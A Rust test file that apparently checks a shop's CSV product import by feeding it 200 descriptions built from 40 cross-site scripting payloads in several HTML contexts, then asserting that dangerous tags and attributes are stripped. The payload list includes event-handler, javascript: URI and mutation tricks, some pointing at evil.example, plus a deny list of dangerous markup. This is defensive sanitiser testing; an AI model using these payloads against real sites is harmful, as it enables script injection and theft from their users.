//! Descriptions that would do something to whoever reads them.

use super::{file, plainly, take};
use crate::support::Shop;

/// Things that do something, as attackers write them.
const ATTACKS: [&str; 40] = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<img src=x onerror=alert(1)>",
    "<img src=\"javascript:alert(1)\">",
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><a xlink:href=\"javascript:alert(1)\"><text>x</text></a></svg>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "<a href=\"javascript:alert(1)\">x</a>",
    "<a href=\"jAvAsCrIpT&#58;alert(1)\">x</a>",
    "<a href=\"data:text/html,<script>alert(1)</script>\">x</a>",
    "<a href=\"vbscript:msgbox(1)\">x</a>",
    "<iframe src=\"javascript:alert(1)\"></iframe>",
    "<iframe srcdoc=\"<script>alert(1)</script>\"></iframe>",
    "<object data=\"javascript:alert(1)\"></object>",
    "<embed src=\"//evil.example/x.swf\">",
    "<form action=\"//evil.example\"><input name=p><button>Go</button></form>",
    "<input autofocus onfocus=alert(1)>",
    "<button formaction=\"javascript:alert(1)\">x</button>",
    "<body onload=alert(1)>",
    "<style>*{background:url(//evil.example)}</style>",
    "<div style=\"position:fixed;inset:0;background:url(javascript:alert(1))\">x</div>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<meta http-equiv=refresh content=\"0;url=//evil.example\">",
    "<base href=\"//evil.example/\">",
    "<template><img src=x onerror=alert(1)></template>",
    "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\"></noscript>",
    "<video><source onerror=alert(1)></video>",
    "<audio src=x onerror=alert(1)></audio>",
    "<details open ontoggle=alert(1)>x</details>",
    "<marquee onstart=alert(1)>x</marquee>",
    "<p onclick=alert(1)>x</p>",
    "<p onmouseover=\"alert(1)\" class=\"x\">y</p>",
    "<textarea></textarea><img src=x onerror=alert(1)>",
    "<title></title><script>alert(1)</script>",
    "<!--><script>alert(1)</script>-->",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<x:script xmlns:x=\"http://www.w3.org/1999/xhtml\">alert(1)</x:script>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<a href=\"//evil.example\" target=_blank onclick=alert(1)>x</a>",
];

/// Where they stand: alone, in a text, in a list, unfinished, in a table.
const PLACES: [(&str, &str); 5] = [
    ("", ""),
    ("<p>Before ", " after</p>"),
    ("<ul><li>", "</li></ul>"),
    ("<b><i>", ""),
    ("<table><tr><td>", "</td></tr></table>"),
];

/// What must not be in what is kept, in lower case: elements and attributes that do something.
const NEVER: [&str; 24] = [
    "<script",
    "<svg",
    "<math",
    "<iframe",
    "<object",
    "<embed",
    "<form",
    "<input",
    "<button",
    "<style",
    "<link",
    "<meta",
    "<base",
    "<template",
    "<body",
    "<audio",
    "<video",
    "<marquee",
    " on",
    "javascript:",
    "vbscript:",
    "data:",
    "style=",
    "formaction",
];

#[tokio::test]
async fn two_hundred_hostile_descriptions_are_harmless_when_they_are_kept() {
    let shop = Shop::open().await;
    let mut csv = csv::Writer::from_writer(Vec::new());
    csv.write_record(["Handle", "Title", "Body (HTML)", "Variant Price"]).unwrap();
    let mut count = 0;
    for attack in ATTACKS {
        for (before, after) in PLACES {
            count += 1;
            let body = format!("{before}{attack}{after}");
            csv.write_record([&format!("p{count}"), "Harmless", &body, "1"]).unwrap();
        }
    }
    let csv = String::from_utf8(csv.into_inner().unwrap()).unwrap();

    let (totals, _) = take(&shop, file(&csv).path(), &plainly()).await;

    assert_eq!((totals.created, count), (200, 200));
    let kept: Vec<String> = shop
        .sql(async |tx| {
            sqlx::query_scalar("SELECT description_html FROM product").fetch_all(tx).await
        })
        .await;
    for html in kept {
        // Only tags count: what is written as text does nothing.
        let tags: String = html
            .split('<')
            .skip(1)
            .map(|part| format!("<{}>", part.split('>').next().unwrap_or_default().to_lowercase()))
            .collect();
        for never in NEVER {
            assert!(!tags.contains(never), "{never} in {html}");
        }
    }
}
